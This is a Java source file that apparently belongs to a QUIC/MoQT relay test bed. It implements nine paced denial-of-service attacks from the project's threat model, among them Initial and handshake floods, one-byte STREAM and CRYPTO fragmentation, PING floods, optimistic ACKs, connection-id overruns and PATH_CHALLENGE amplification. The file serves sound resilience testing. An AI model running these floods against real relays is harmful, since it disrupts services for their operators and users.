package dev.moqbed.live.attack;

import dev.moqbed.transport.quic.Frame;
import dev.moqbed.transport.recovery.AckFrame;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;

/**
 * One attack of issue 30's threat model, run from the attacker's own address until stopped. Each
 * paces itself ({@link #pace}) and counts what it did, for the report.
 */
enum Attack {
  /** Initials with a real ClientHello, each for a new connection, never answered. */
  INITIAL_FLOOD(
      "initial-flood", "Initials with a ClientHello, a new connection each, never answered", 500) {
    @Override
    void step(ForgingClient client, Counts counts) throws Exception {
      client.sendFirstInitial();
      counts.actions++;
    }
  },
  /** Complete handshakes, then silence: TLS work for the relay each time. */
  HANDSHAKES("handshakes", "complete QUIC handshakes, each connection then left silent", 100) {
    @Override
    void step(ForgingClient client, Counts counts) throws Exception {
      var connection = client.handshake(2_000);
      counts.actions++;
      if (connection == null) {
        counts.refused++;
        return;
      }
      client.drop(connection);
    }
  },
  /** STREAM data cut into one-byte pieces with a hole before each, past the piece budget. */
  FRAGMENTS(
      "fragments",
      "after a handshake, 1-byte STREAM frames with a hole before each, 60,000 per connection",
      20) {
    @Override
    void step(ForgingClient client, Counts counts) throws Exception {
      var connection = client.handshake(2_000);
      counts.actions++;
      if (connection == null) {
        counts.refused++;
        return;
      }
      List<List<Frame>> packets = new ArrayList<>();
      List<Frame> frames = new ArrayList<>();
      for (int piece = 0; piece < FRAGMENTS_PER_CONNECTION; piece++) {
        // within each stream's window (64 KiB): the next stream after PIECES_PER_STREAM
        long stream = CLIENT_UNI_STREAM + 4L * (piece / PIECES_PER_STREAM);
        long offset = 2L * (piece % PIECES_PER_STREAM) + 1;
        frames.add(new Frame.Stream(stream, offset, 1, false, true, null));
        if (frames.size() == FRAMES_PER_PACKET) {
          packets.add(frames);
          frames = new ArrayList<>();
        }
      }
      packets.add(frames);
      client.forge(connection, packets);
      counts.datagrams += packets.size();
    }
  },
  /** MoQT sessions that set up, then hold nothing and keep alive: slots for the price of a PING. */
  IDLE_SESSIONS(
      "idle-sessions",
      "MoQT sessions that set up, then only send a keep-alive every 3 s, never closed",
      20) {
    @Override
    void step(ForgingClient client, Counts counts) throws Exception {
      counts.actions++;
      if (!client.holdIdleSession(2_000, 3_000_000)) {
        counts.refused++;
      }
    }
  },
  /** Packets of 1,150 PING frames each, after a handshake, connection after connection. */
  PINGS("pings", "after a handshake, packets of 1,150 PING frames, 200 per connection", 20) {
    @Override
    void step(ForgingClient client, Counts counts) throws Exception {
      var connection = client.handshake(2_000);
      counts.actions++;
      if (connection == null) {
        counts.refused++;
        return;
      }
      List<Frame> pings = new ArrayList<>();
      for (int i = 0; i < PINGS_PER_PACKET; i++) {
        pings.add(new Frame.Ping());
      }
      List<List<Frame>> packets = new ArrayList<>();
      for (int i = 0; i < PING_PACKETS_PER_CONNECTION; i++) {
        packets.add(pings);
      }
      client.forge(connection, packets);
      counts.datagrams += packets.size();
    }
  },
  /** CRYPTO data cut into one-byte pieces with a hole before each, in Initials, no ClientHello. */
  CRYPTO_FRAGMENTS(
      "crypto-fragments",
      "Initials of 1-byte CRYPTO frames with a hole before each and no ClientHello, a new"
          + " connection each, 4 datagrams of 230 frames",
      20) {
    @Override
    void step(ForgingClient client, Counts counts) throws Exception {
      List<List<Frame>> packets = new ArrayList<>();
      for (int datagram = 0; datagram < CRYPTO_DATAGRAMS_PER_CONNECTION; datagram++) {
        List<Frame> frames = new ArrayList<>();
        for (int i = 0; i < CRYPTO_FRAMES_PER_DATAGRAM; i++) {
          long piece = (long) datagram * CRYPTO_FRAMES_PER_DATAGRAM + i;
          frames.add(new Frame.Crypto(2 * piece + 1, 1)); // offset 0, the ClientHello, never
        }
        packets.add(frames);
      }
      client.forgeInitials(packets);
      counts.actions++;
      counts.datagrams += packets.size();
    }
  },
  /** More connection ids than the relay's active_connection_id_limit allows. */
  CONNECTION_IDS(
      "connection-ids",
      "after a handshake, NEW_CONNECTION_ID frames 1 to 32, past active_connection_id_limit 8",
      20) {
    @Override
    void step(ForgingClient client, Counts counts) throws Exception {
      List<Frame> frames = new ArrayList<>();
      for (long sequence = 1; sequence <= CONNECTION_IDS_PER_CONNECTION; sequence++) {
        frames.add(new Frame.NewConnectionId(sequence));
      }
      forgeAfterHandshake(client, counts, List.of(frames));
    }
  },
  /** ACKs of packets the relay never sent: an optimistic ACK, to make it send faster. */
  OPTIMISTIC_ACK(
      "optimistic-ack",
      "after a handshake, ACKs of the relay's packets 0 to 1,000 (it sent about 10)",
      20) {
    @Override
    void step(ForgingClient client, Counts counts) throws Exception {
      Frame ack = new Frame.Ack(AckFrame.of(0, 3, 0, OPTIMISTIC_ACK_LARGEST), null);
      List<List<Frame>> packets = new ArrayList<>();
      for (int i = 0; i < OPTIMISTIC_ACKS_PER_CONNECTION; i++) {
        packets.add(List.of(ack));
      }
      forgeAfterHandshake(client, counts, packets);
    }
  },
  /** PATH_CHALLENGE after PATH_CHALLENGE: each answer a datagram of 1,200 bytes. */
  PATH_CHALLENGES(
      "path-challenges",
      "after a handshake, packets of one PATH_CHALLENGE each, 200 per connection",
      20) {
    @Override
    void step(ForgingClient client, Counts counts) throws Exception {
      List<List<Frame>> packets = new ArrayList<>();
      for (int i = 0; i < CHALLENGES_PER_CONNECTION; i++) {
        packets.add(List.of(new Frame.PathChallenge(i)));
      }
      forgeAfterHandshake(client, counts, packets);
    }
  };

  /** A handshake, then {@code packets} forged on its connection; a failed handshake is refused. */
  private static void forgeAfterHandshake(
      ForgingClient client, Counts counts, List<List<Frame>> packets) throws Exception {
    var connection = client.handshake(2_000);
    counts.actions++;
    if (connection == null) {
      counts.refused++;
      return;
    }
    client.forge(connection, packets);
    counts.datagrams += packets.size();
  }

  /** 920 pieces: past the relay's budget of 256 separate runs of CRYPTO data per level. */
  static final int CRYPTO_DATAGRAMS_PER_CONNECTION = 4;

  static final int CRYPTO_FRAMES_PER_DATAGRAM = 230;
  static final int CONNECTION_IDS_PER_CONNECTION = 32;
  static final long OPTIMISTIC_ACK_LARGEST = 1_000;
  static final int OPTIMISTIC_ACKS_PER_CONNECTION = 10;
  static final int CHALLENGES_PER_CONNECTION = 200;

  /** The client's first unidirectional stream (RFC 9000 §2.1); the next ones are 4 apart. */
  static final long CLIENT_UNI_STREAM = 2;

  /**
   * Far past the relay's budget of 4,096 pieces: without it each connection would hold about 8 MB
   * of heap (137 B per piece) until its setup deadline.
   */
  static final int FRAGMENTS_PER_CONNECTION = 60_000;

  static final int PIECES_PER_STREAM = 30_000;
  static final int FRAMES_PER_PACKET = 160;
  static final int PINGS_PER_PACKET = 1_150;
  static final int PING_PACKETS_PER_CONNECTION = 200;

  /** What an attack did. */
  static final class Counts {
    volatile long actions;
    volatile long refused;
    volatile long datagrams;
    volatile long bytesSent;
    volatile long bytesReceived;

    /** Adds another round's counts to these. */
    void add(Counts other) {
      actions += other.actions;
      refused += other.refused;
      datagrams += other.datagrams;
      bytesSent += other.bytesSent;
      bytesReceived += other.bytesReceived;
    }
  }

  private final String label;
  private final String description;
  private final int defaultRate;

  Attack(String label, String description, int defaultRate) {
    this.label = label;
    this.description = description;
    this.defaultRate = defaultRate;
  }

  String label() {
    return label;
  }

  String description() {
    return description;
  }

  /** Steps a second when the command gives no rate. */
  int defaultRate() {
    return defaultRate;
  }

  /** One step of the attack: an Initial, a handshake, a connection's forged packets. */
  abstract void step(ForgingClient client, Counts counts) throws Exception;

  /** Runs steps at {@code perSecond} until {@code stopped} says so. */
  void run(ForgingClient client, int perSecond, Counts counts, BooleanSupplier stopped)
      throws Exception {
    long intervalNanos = 1_000_000_000L / perSecond;
    long next = System.nanoTime();
    while (!stopped.getAsBoolean()) {
      step(client, counts);
      next += intervalNanos;
      pace(next);
    }
  }

  private static void pace(long dueNanos) {
    long wait = dueNanos - System.nanoTime();
    if (wait > 0) {
      LockSupport.parkNanos(wait);
    }
  }

  /** The attack named {@code label}; a one-line error for anything else. */
  static Attack ofLabel(String label) {
    for (Attack attack : values()) {
      if (attack.label.equals(label.trim().toLowerCase(Locale.ROOT))) {
        return attack;
      }
    }
    List<String> labels = new ArrayList<>();
    for (Attack attack : values()) {
      labels.add(attack.label);
    }
    throw new IllegalArgumentException(
        "unknown attack '" + label + "': expected " + String.join(", ", labels));
  }
}
